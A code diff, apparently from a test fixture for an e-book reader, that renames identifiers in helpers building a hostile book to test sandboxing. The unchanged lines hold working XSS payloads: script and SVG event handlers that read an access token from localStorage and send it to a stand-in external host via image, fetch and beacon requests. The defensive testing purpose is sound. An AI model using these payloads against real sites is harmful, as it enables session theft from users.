@@ -16,22 +16,22 @@ export const EXTERNAL_ORIGIN = 'https://outside.example';
 /** The storage key that an attack would read. Only code that runs can read it. */
 export const TOKEN_KEY = 'access_token';
 
-const PICTURE = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
+const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
 
-/** An attempt that prevents the later attempts of a chapter, unless it is removed. */
+/** An attempt that, when it succeeds, prevents the later attempts of the chapter. */
 export type TerminalAttempt = 'refresh' | 'transform' | 'own policy';
 
 /**
  * JavaScript statements without characters that markup has to escape. They also work where no storage can be read, and
  * their last value replaces no document when they are a URL.
  */
-export const payload = (name: string, more = ''): string =>
-  `for (const w of [window, parent, top]) try { (w.${EXECUTED_KEY} = w.${EXECUTED_KEY} || []).push('${name}') } catch (e) {} var secret = ''; try { secret = localStorage.getItem('${TOKEN_KEY}') } catch (e) {} new Image().src = '${EXTERNAL_ORIGIN}/token/' + secret; ${more} void 0`;
+export const payload = (name: string, extraStatement = ''): string =>
+  `for (const w of [window, parent, top]) try { (w.${EXECUTED_KEY} = w.${EXECUTED_KEY} || []).push('${name}') } catch (e) {} var secret = ''; try { secret = localStorage.getItem('${TOKEN_KEY}') } catch (e) {} new Image().src = '${EXTERNAL_ORIGIN}/token/' + secret; ${extraStatement} void 0`;
 
 /** An SVG image, used as a spine document and inline in a chapter. */
 export function hostileSvg(name = 'drawing'): string {
-  const go = (what: string) => payload(`${name}: ${what}`);
-  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90" onload="${go('onload')}"><script>${go('script')}</script><a xlink:href="javascript:${go('link')}"><text y="9">s</text></a><image xlink:href="${EXTERNAL_ORIGIN}/svg.png"/><use href="${EXTERNAL_ORIGIN}/use.svg#a"/><style>text { fill: url(${EXTERNAL_ORIGIN}/fill.svg#a) }</style><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${go('frame')}"></iframe></foreignObject><set attributeName="onload" to="${go('set')}"/><animate attributeName="href" values="javascript:${go('animate')}" onbegin="${go('onbegin')}"/></svg>`;
+  const call = (attribute: string) => payload(`${name}: ${attribute}`);
+  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90" onload="${call('onload')}"><script>${call('script')}</script><a xlink:href="javascript:${call('link')}"><text y="9">s</text></a><image xlink:href="${EXTERNAL_ORIGIN}/svg.png"/><use href="${EXTERNAL_ORIGIN}/use.svg#a"/><style>text { fill: url(${EXTERNAL_ORIGIN}/fill.svg#a) }</style><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${call('frame')}"></iframe></foreignObject><set attributeName="onload" to="${call('set')}"/><animate attributeName="href" values="javascript:${call('animate')}" onbegin="${call('onbegin')}"/></svg>`;
 }
 
 /** A style sheet with every kind of external request. */
@@ -43,7 +43,7 @@ export function hostileAttempts(endings: readonly TerminalAttempt[]): {
   head: Record<string, string>;
   body: Record<string, string>;
 } {
-  const written: Readonly<Record<TerminalAttempt, string>> = {
+  const terminalMarkup: Readonly<Record<TerminalAttempt, string>> = {
     refresh: `<meta http-equiv="refresh" content="0;url=${EXTERNAL_ORIGIN}/refresh"/>`,
     // An XSLT style sheet replaces the chapter by its output or by an error page. Its instruction precedes the root
     // element.
@@ -68,7 +68,7 @@ export function hostileAttempts(endings: readonly TerminalAttempt[]): {
       'service worker': `<script>${payload('service worker', `try { navigator.serviceWorker.register('run.js') } catch (e) {}`)}</script>`,
       fetching: `<script>${payload('fetching', `fetch('${EXTERNAL_ORIGIN}/fetch'); navigator.sendBeacon('${EXTERNAL_ORIGIN}/beacon');`)}</script>`,
       'message to the parent page': `<script>${payload('message', `parent.postMessage({ type: 'octavo' }, '*');`)}</script>`,
-      ...Object.fromEntries(endings.map((ending) => [ending, written[ending]])),
+      ...Object.fromEntries(endings.map((ending) => [ending, terminalMarkup[ending]])),
     },
     body: {
       'broken image': `<img src="missing.png" onerror="${payload('onerror')}" alt=""/>`,
@@ -135,7 +135,7 @@ export async function importHostileBook(shop: Shop): Promise<{ slug: string; out
       { href: 'two.svg', mediaType: 'image/svg+xml', content: hostileSvg() },
     ],
     resources: [
-      { href: 'cover.gif', mediaType: 'image/gif', content: PICTURE, isCover: true },
+      { href: 'cover.gif', mediaType: 'image/gif', content: GIF, isCover: true },
       { href: 'run.js', mediaType: 'text/javascript', content: payload('book script') },
       { href: 'run.xsl', mediaType: 'application/xslt+xml', content: '<x/>' },
       { href: 'hostile.svg', mediaType: 'image/svg+xml', content: hostileSvg('object') },
